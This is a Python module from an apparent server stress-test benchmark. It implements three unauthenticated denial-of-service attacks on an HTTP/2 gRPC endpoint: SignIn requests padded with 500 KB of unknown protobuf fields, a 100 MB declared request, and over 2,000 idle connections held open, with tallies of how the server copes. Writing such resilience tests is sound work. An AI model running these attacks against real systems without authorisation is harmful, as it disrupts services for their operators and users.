"""Attacks on the edge that need no account: a request whose decoding
costs far more than its bytes, a request that declares (and sends) 100 MB,
and connections that never become HTTP/2 or never ask anything."""

from __future__ import annotations

import asyncio
import contextlib
import secrets
import time
from typing import Any

from crab_bench import wire as w
from crab_bench.attacks.base import Tally, Target, left, varint
from crab_bench.attacks.raw import Watched, h2_error, open_watched, raw_call
from crab_bench.h2raw import GOAWAY, HEADER, PREFACE, SETTINGS, frame

UNKNOWN_VARINT = b"\xc0\x3e\x00"  # field 1000, wire type 0 (varint), value 0
PADDING = 500_000  # bytes of unknown fields per request
HUGE = 100 * 2**20  # the declared (and sent) size of huge-request
UNKNOWN_BYTES_TAG = b"\xc2\x3e"  # field 1000, wire type 2 (length-delimited)
NO_PREFACE = 1_100  # connections that never send the HTTP/2 preface
PREFACE_ONLY = 1_000  # connections that send the preface, then nothing
OPENING = 256  # connections being opened at once
# A server that stops accepting (out of file descriptors) leaves a connect
# hanging in the kernel's SYN retries (a full accept queue drops SYNs too):
# give up on it after this long.
CONNECT_TIMEOUT = 3.5  # past the retries at 1 s and 3 s


def _sign_in(name: str) -> bytes:
    m = w.wire()
    request = m.SignInRequest(username=name, password="not-the-password")
    return bytes(request.SerializeToString())


async def _reconnect(conn: Watched | None, host: str, port: int, tally: Tally) -> Watched:
    if conn is not None and not conn.closed:
        return conn
    if conn is not None:
        tally.count(conn.fate())
    return await open_watched(host, port)


async def unknown_fields(target: Target, until: float, tally: Tally) -> None:
    """SignIn requests padded with 500 KB of small unknown fields, one
    after another (each once the previous is answered)."""
    body = _sign_in(f"nobody{secrets.token_hex(4)}") + UNKNOWN_VARINT * (PADDING // 3)
    tally.figure("request KiB", len(body) / 1024)
    conn: Watched | None = None
    try:
        while left(until) > 0:
            try:
                conn = await _reconnect(conn, target.host, target.port, tally)
            except OSError as error:
                tally.count(f"connect failed ({type(error).__name__})")
                await asyncio.sleep(0.1)
                continue
            started = time.perf_counter()
            found, _ = await raw_call(conn, w.SIGN_IN, body, None, until)
            if found != "no answer in time":
                tally.answered(time.perf_counter() - started)
            tally.count(found)
    finally:
        if conn is not None:
            conn.close()


async def huge_request(target: Target, until: float, tally: Tally) -> None:
    """One SignIn whose length prefix declares 100 MB, and the 100 MB
    (a valid request plus one unknown length-delimited field), as much of
    it as the server takes before the attack's end."""
    head = _sign_in(f"nobody{secrets.token_hex(4)}")
    rest = HUGE - len(head) - len(UNKNOWN_BYTES_TAG)
    filler = rest - len(varint(rest))
    body = head + UNKNOWN_BYTES_TAG + varint(filler) + bytes(filler)
    tally.figure("declared MiB", len(body) / 2**20)
    conn = await open_watched(target.host, target.port)
    try:
        started = time.perf_counter()
        found, written = await raw_call(conn, w.SIGN_IN, body, None, until)
        if found != "no answer in time":
            tally.answered(time.perf_counter() - started)
        tally.count(found)
        tally.figure("sent MiB", max(0, written - 5) / 2**20)
        await asyncio.sleep(left(until))  # the phase goes on: how does the server recover?
        tally.count(conn.fate())
    finally:
        conn.close()


class _Idle(asyncio.Protocol):
    """A connection that sends the preface (or not) and then nothing."""

    def __init__(self, preface: bool) -> None:
        self.preface = preface
        self.transport: Any = None
        self.goaway: int | None = None
        self.closed = False
        self.buffer = bytearray()

    def connection_made(self, transport: Any) -> None:
        self.transport = transport
        if self.preface:
            transport.write(PREFACE + frame(SETTINGS, 0, 0))

    def data_received(self, data: bytes) -> None:
        self.buffer += data
        while len(self.buffer) >= 9:
            word, _, _ = HEADER.unpack_from(self.buffer)
            length, kind = word >> 8, word & 0xFF
            if len(self.buffer) < 9 + length:
                break
            if kind == GOAWAY and length >= 8:
                self.goaway = int.from_bytes(self.buffer[13:17], "big")
            del self.buffer[: 9 + length]

    def connection_lost(self, exc: Exception | None) -> None:
        self.closed = True

    def fate(self) -> str:
        if self.goaway is not None:
            return f"GOAWAY {h2_error(self.goaway)}"
        return "closed by the server" if self.closed else "held open to the end"


def _interleaved() -> list[tuple[str, bool]]:
    """Both kinds of idle connection in one order, each kind spread evenly,
    so that both are tried when the server takes only some."""
    plain = [(n / NO_PREFACE, "no preface", False) for n in range(NO_PREFACE)]
    greeted = [(n / PREFACE_ONLY, "preface only", True) for n in range(PREFACE_ONLY)]
    return [(group, preface) for _, group, preface in sorted(plain + greeted)]


async def idle_connections(target: Target, until: float, tally: Tally) -> None:
    """1,100 TCP connections that never send the HTTP/2 preface and 1,000
    that send it and then nothing, held until the attack's end."""
    loop = asyncio.get_running_loop()
    gate = asyncio.Semaphore(OPENING)
    held: list[tuple[str, _Idle]] = []

    async def one(group: str, preface: bool) -> None:
        async with gate:
            if left(until) <= 0:
                tally.count(f"{group}: not tried (time up)")
                return
            try:
                _, idle = await asyncio.wait_for(
                    loop.create_connection(lambda: _Idle(preface), target.host, target.port),
                    min(CONNECT_TIMEOUT, max(0.01, left(until))),
                )
            except TimeoutError:
                tally.count(f"{group}: connect timed out")
                return
            except OSError as error:
                tally.count(f"{group}: connect failed ({type(error).__name__})")
                return
            held.append((group, idle))

    started = time.perf_counter()
    try:
        await asyncio.gather(*(one(group, preface) for group, preface in _interleaved()))
        tally.figure("seconds to open them", time.perf_counter() - started)
        tally.figure("connections opened", len(held))
        await asyncio.sleep(left(until))
        for group, idle in held:
            tally.count(f"{group}: {idle.fate()}")
    finally:
        for _, idle in held:
            if idle.transport is not None:
                with contextlib.suppress(Exception):
                    idle.transport.close()
